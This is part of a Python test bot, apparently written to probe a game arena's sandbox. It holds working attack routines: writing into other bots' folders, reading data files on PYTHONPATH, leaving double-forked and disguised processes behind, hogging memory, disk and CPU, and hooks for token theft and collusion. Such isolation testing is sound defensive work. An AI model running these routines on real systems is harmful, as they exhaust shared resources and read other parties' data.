        probe("write_own_folder", True, f"created and removed {own / name}")
    except OSError as e:
        probe("write_own_folder", False, f"{own}: {type(e).__name__}: {e}")
    wrote, refused = [], {}
    for f in folders:
        if not (f / VICTIM_MARK).exists():
            continue  # a probe writes only where a test put a victim, never into real bots
        try:
            (f / name).write_text("written by the hostile bot\n")
            wrote.append(str(f / name))
        except OSError as e:
            refused[str(f)] = f"{type(e).__name__}: {e}"
    probe("write_other_bot", bool(wrote), {"wrote": wrote, "refused": refused})


@guarded("pythonpath_read")
def attack_pythonpath() -> None:
    """Read what the folders on our PYTHONPATH hold besides code: a manifest names them, so a
    bot's author may name any folder of the host (the store's, another bot's)."""
    out = {}
    for entry in [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]:
        files = _walk(entry, 3, lambda p: not p.endswith((".py", ".pyi", ".pyc")), 5000)
        read = {}
        for f in files[:50]:
            data = _read(f, 1 << 16)
            if data is None:
                continue
            if data.startswith(b"SQLite format 3"):
                read[f] = "SQLite: " + " ".join(sorted({t.decode() for t in re.findall(
                    rb"CREATE TABLE \"?(\w+)", data)}))
            else:
                read[f] = data[:80].decode(errors="replace")
        out[entry] = read
    probe("pythonpath_read", any(out.values()), out)


# -- row 2: processes left behind, memory, disk, CPU -----------------------------------------
def _quiet() -> None:
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)


SLEEP = next((p for p in ("/bin/sleep", "/usr/bin/sleep") if os.path.exists(p)), None)


def _exec_sleep(argv0: str) -> None:
    """In a forked child: become ``sleep 600`` under the name ``argv0`` (or sleep here), its
    output away from the seat's log pipe (the referee need not wait for it to close)."""
    _quiet()
    try:
        if SLEEP:
            os.execv(SLEEP, [argv0, "600"])
    finally:
        time.sleep(600)  # (a lingering process: the attack itself)
        os._exit(0)


@guarded("info_leftovers")
def attack_leftovers() -> None:
    m = _args.marker
    daemon = "not started"
    pid = os.fork()
    if pid == 0:  # the double fork: a new session, then its child outlives it
        try:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                _exec_sleep(f"hostile-daemon-{m}")
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    daemon = "double-forked into its own session"
    started, errors = 0, set()
    for i in range(200):
        try:
            if os.fork() == 0:
                if i % 2:  # half of them leave the bot's process group too
                    try:
                        os.setpgid(0, 0)
                    except OSError:
                        pass
                _exec_sleep(f"hostile-child-{m}")
            started += 1
        except OSError as e:
            errors.add(f"{type(e).__name__}: {e}")
            break
    probe("info_leftovers", started > 0, {"daemon": daemon, "children": started,
                                          "errors": sorted(errors)})


@guarded("info_hog")
def attack_hog() -> None:
    m = _args.marker
    out = {}
    probe("info_hog", True, {"step": "allocating 1536 MB, then writing 200 MB, then a CPU "
                                     "burner (a line follows if the bot survives)"})
    try:
        block = bytearray(1536 << 20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        out["allocated_mb"] = len(block) >> 20
        del block
    except MemoryError:
        out["allocated_mb"] = "MemoryError"
    path = f"/tmp/hostile-hog-{m}.bin"
    written = 0
    try:
        chunk = os.urandom(1 << 20)
        with open(path, "wb") as f:
            for _ in range(200):
                f.write(chunk)
                written += 1
        out["written_mb"] = written
    except OSError as e:
        out["written_mb"] = f"{written} then {type(e).__name__}: {e}"
    out["file"] = path
    pid = os.fork()
    if pid == 0:  # burns CPU until it is killed
        _quiet()
        os.setpgid(0, 0)
        while True:
            pass
    out["cpu_burner"] = "started"
    probe("info_hog", True, out)


# -- playing -------------------------------------------------------------------------------------
def main() -> int:
    global _args
    ap = argparse.ArgumentParser()
    ap.add_argument("--marker", default=f"hostile-{ME}")
    ap.add_argument("--attacks", default="environment,network,store,folders,memory,steal,"
                                         "collude,leftovers,hog")
    ap.add_argument("--outbound", default="")
    ap.add_argument("--stolen", action="append", default=[],
                    help="SEAT:TOKEN, an opponent's token leaked to us (attack given_token)")
    _args = ap.parse_args()
    attacks = set(_args.attacks.split(","))
    probe("info_start", True, {"attacks": sorted(attacks), "pid": ME, "ppid": os.getppid(),
                               "cwd": os.getcwd(), "uid": os.getuid()})
    # first what forks (before grpc is imported and threads exist)
    if "leftovers" in attacks:
        attack_leftovers()
    if "hog" in attacks:
        attack_hog()
    collusion = Collusion() if "collude" in attacks else None
    sender = SEAT in (0, 1)
    if collusion is not None:
        if sender:
            collusion.publish()
        else:
            collusion.listen_for_signal()
    for name, fn in (("environment", attack_environment), ("network", attack_network),
                     ("store", attack_store), ("folders", attack_folders),
                     ("memory", attack_memory), ("pythonpath", attack_pythonpath)):
        if name in attacks:
            fn()
    over = threading.Event()
    thief = None
    if "steal" in attacks:
        thief = Steal(over)
        thief.start()
    if "given_token" in attacks:
        thief = threading.Thread(target=use_given_tokens, daemon=True)
        thief.start()

    from arena_bot import Bot, run  # the SDK, from the manifest's pythonpath

    class Hostile(Bot):
        name = "hostile"

        def __init__(self) -> None:
            super().__init__()
            self.rng = random.Random(f"{MATCH}:{SEAT}")
            self.hand: list[str] = []
            self.received = False

        def _absorb(self, events) -> None:
            grew = False
            for e in events:
                if e.kind == "CardDealt" and e.seat == SEAT:
                    self.hand.extend(e.cards)
                    grew = True
            if grew and collusion is not None and sender:
                collusion.update(self.hand)

        def on_welcome(self, welcome) -> None:
            if collusion is not None and not sender and not self.received:
                self.received = True
                collusion.receive()

        def on_notice(self, notice) -> None:
            self._absorb(notice.events)

        def choose(self, request):
            self._absorb(request.events)
            return self.rng.choice(request.hint.actions)

    code = run(Hostile())
    over.set()
    if thief is not None:
        thief.join(2.5)
    return code


if __name__ == "__main__":
    sys.exit(main())
